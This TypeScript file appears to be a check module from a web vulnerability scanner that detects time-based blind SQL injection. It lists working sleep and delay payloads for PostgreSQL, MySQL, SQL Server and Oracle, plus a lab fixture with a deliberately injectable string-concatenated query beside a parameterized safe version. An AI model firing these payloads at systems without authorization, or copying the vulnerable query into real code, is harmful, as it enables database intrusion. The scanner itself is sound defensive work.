import { DELAYS, judgeTiming } from '../../../oracle/timing.ts';
import { at, definePointCheck } from '../../define-active-check.ts';
import { asPage, openTeaShop } from '../../labs/sql.ts';
import { maySendSql, SQL_CVSS, SQL_FIX, SQL_LOCATIONS, SQL_REFERENCES, SQL_WHY } from '../../shared/sql.ts';
import { firstToWait } from '../../shared/try-variants.ts';

/** Text appended to the value that delays the database once, regardless of the number of rows. */
type Variant = (seconds: number) => string;

const mysql = (seconds: number) => `(SELECT 0 FROM(SELECT SLEEP(${seconds}))a)`;

export default definePointCheck<Variant>({
  id: 'sql-injection-time',
  flaw: { name: 'sql-injection', rank: 4 },
  provesInterpreter: true,
  title: 'SQL injection (time-based blind)',
  cwe: 89,
  cvss: SQL_CVSS,
  why: `${SQL_WHY} Statements that make the database sleep for different times delayed the response by these times.`,
  fix: SQL_FIX,
  references: SQL_REFERENCES,
  risk: 'intrusive',
  depth: 'DEEP',
  locations: SQL_LOCATIONS,
  appliesTo: () => true,
  variants: [
    (seconds) => `'||(SELECT pg_sleep(${seconds}))||'`,
    (seconds) => `'+${mysql(seconds)}+'`,
    (seconds) => `+${mysql(seconds)}`,
    (seconds) => ` AND (SELECT 1 FROM pg_sleep(${seconds}))=1`,
    (seconds) => `';WAITFOR DELAY '0:0:${seconds}'-- -`,
    (seconds) => `;WAITFOR DELAY '0:0:${seconds}'-- -`,
    (seconds) => `"+${mysql(seconds)}+"`,
    (seconds) => `') AND ${mysql(seconds)}=0-- -`,
    (seconds) => `') AND (SELECT 1 FROM pg_sleep(${seconds}))=1-- -`,
    (seconds) => `');WAITFOR DELAY '0:0:${seconds}'-- -`,
    (seconds) => `'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('a',${seconds}) FROM dual)||'`,
  ],
  maxRequests: 26,
  async probe(point, _nonce, { ask }) {
    const variants = this.variants.filter((variant) => maySendSql(point, variant(0)));
    return firstToWait(variants, { point, ask });
  },
  proof: {
    plan: (point, variant) =>
      DELAYS.map(({ label, seconds }) => at(point, label, `${point.parameter.value}${variant(seconds)}`)),
    judge: (answers) => judgeTiming(answers),
  },
  lab() {
    const ask = openTeaShop(asPage);
    return {
      location: 'form',
      parameter: 'email',
      value: 'alice@shop.test',
      // Returns the same response whatever the query finds.
      vulnerable: (value) => ({
        ...ask(`select 1 from person where name = '${value}'`),
        status: 200,
        body: 'Thank you',
      }),
      safe: (value) => ({ ...ask('select 1 from person where name = ?', value), status: 200, body: 'Thank you' }),
    };
  },
});
